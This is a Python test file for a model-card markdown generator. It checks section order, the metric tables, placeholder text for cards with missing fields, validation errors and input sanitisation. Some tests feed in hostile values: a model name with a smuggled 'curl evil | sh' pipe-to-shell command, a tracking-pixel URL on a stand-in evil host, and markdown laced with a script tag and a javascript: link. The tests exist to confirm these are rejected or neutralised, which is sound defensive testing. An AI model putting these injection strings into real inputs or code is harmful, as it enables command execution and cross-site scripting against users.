"""The card for readers: limits first, a header that hubs read, every set a row."""

from __future__ import annotations

import re
from typing import Any

import pytest

from mutualformer.runtime.card import LONGEST, markdown
from mutualformer.runtime.contract import ContractError

CARD = {
    "model": "sod-lite",
    "task": "sod",
    "input_size": [320, 320],
    "params": 3_648_902,
    "picture": "sod-lite.jpg",
    "limits": "Says what stands out, not what it is.",
    "data": {"photographs": "DUTS-TR"},
    "recipe": {"name": "photo", "steps": 10},
    "metrics": {
        "sets": {
            "photographs": {"s_measure": 0.86, "mae": 0.05, "images": 300, "standard_error": {"s_measure": 0.004}},
            "composites": {"s_measure": 0.84, "images": 40},
        },
        "conditions": "ONNX Runtime, 320².",
    },
}


def test_limits_come_before_scores_and_scores_before_the_recipe() -> None:
    text = markdown(CARD)
    places = [text.index(f"## {title}") for title in ("Limits", "How to run", "Metrics", "Training data", "Recipe")]
    assert places == sorted(places)
    assert text.startswith("---\nlicense: apache-2.0\n")
    assert "![what sod-lite sees](sod-lite.jpg)" in text
    assert 'mutualformer.load("sod-lite")' in text


def test_every_set_is_a_row_with_its_error() -> None:
    lines = markdown(CARD).splitlines()
    row = next(line for line in lines if line.startswith("| photographs | 0.860"))
    assert "(±0.004)" in row
    assert row.endswith("| 300 |")
    assert next(line for line in lines if line.startswith("| composites")).count("–") == 1
    assert "ONNX Runtime, 320²." in lines


def test_an_empty_card_says_what_it_does_not_know() -> None:
    text = markdown({"model": "reid-tiny", "task": "reid"})
    assert "Not stated." in text
    assert "Not evaluated." in text
    assert "not recorded" in text


DEEP: Any = {"a": [[[["x"]]]]}


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"metrics": 5}, "metrics is 5"),
        ({"metrics": {"sets": {"a": "b"}}}, "a is 'b'"),
        ({"metrics": {"sets": [1]}}, "sets is"),
        ({"metrics": {"mae": "x"}}, "mae is 'x'"),
        ({"metrics": {"mae": 0.1, "standard_error": 3}}, "standard_error is 3"),
        ({"metrics": {"conditions": DEEP}}, "conditions is"),
        ({"data": [1, 2]}, "data is"),
        ({"recipe": "x"}, "recipe is 'x'"),
        ({"calibration": [1]}, "calibration is"),
        ({"limits": {"a": 1}}, "limits is"),
        ({"model": "x`; curl evil | sh"}, "model is"),
        ({"task": ["sod"]}, "task is"),
        ({"picture": "https://evil.example/pixel.png"}, "picture is"),
    ],
)
def test_a_strange_card_is_one_sentence(change: dict[str, Any], says: str) -> None:
    with pytest.raises(ContractError, match=rf"^model card.*{re.escape(says)}.*expected"):
        markdown({**CARD, **change})


@pytest.mark.parametrize("key", ["limits", "data", "recipe", "conditions", "set", "over", "options"])
def test_text_of_a_card_stays_text(key: str) -> None:
    hostile = "---\n# title\n<script>alert(1)</script> [click](javascript:x) ![](http://e/p.png)\n```sh\nsh\n```"
    metrics: dict[str, Any] = {
        "conditions": {"metrics": {"conditions": hostile}},
        "set": {"metrics": {"sets": {hostile: {"mae": 0.1}}}},
        "over": {"metrics": {"data": hostile, "mae": 0.1}},
        "options": {"overrides": {hostile: hostile}},
    }
    text = markdown({**CARD, **metrics.get(key, {key: hostile if key == "limits" else {hostile: hostile}})})
    plain = markdown(CARD)
    assert "<script" not in text
    assert not re.search(r"(?<!\\)\]\((http|javascript)", text)
    assert text.count("```") == plain.count("```")
    assert [line for line in text.splitlines() if line.startswith("#")] == [
        line for line in plain.splitlines() if line.startswith("#")
    ]
    assert text.splitlines().count("---") == 2


def test_a_fine_tuned_model_names_its_parents_their_data_and_its_own_file() -> None:
    parent = {
        "role": "fine-tuned from",
        "given": "sod-lite",
        "model": "sod-lite",
        "weights_sha256": "7e4666c48fc7",
        "data": {"photographs": "DUTS-TR", "terms": "published for research"},
    }
    text = markdown({**CARD, "data": {"train": "mine"}, "parents": [parent]}, "model.safetensors")
    assert "--model model.safetensors" in text
    assert 'mutualformer.load("model.safetensors")' in text
    assert "whose data are:" in text
    data = text.split("## Training data")[1].split("## Recipe")[0]
    assert data.index("mine") < data.index("DUTS-TR") < data.index("published for research")
    assert markdown({**CARD, "parents": "nonsense"}) == markdown(CARD)


def test_a_name_of_megabytes_is_cut() -> None:
    assert len(markdown({**CARD, "data": {"[" * 1_600_000: "x"}})) < 3 * LONGEST
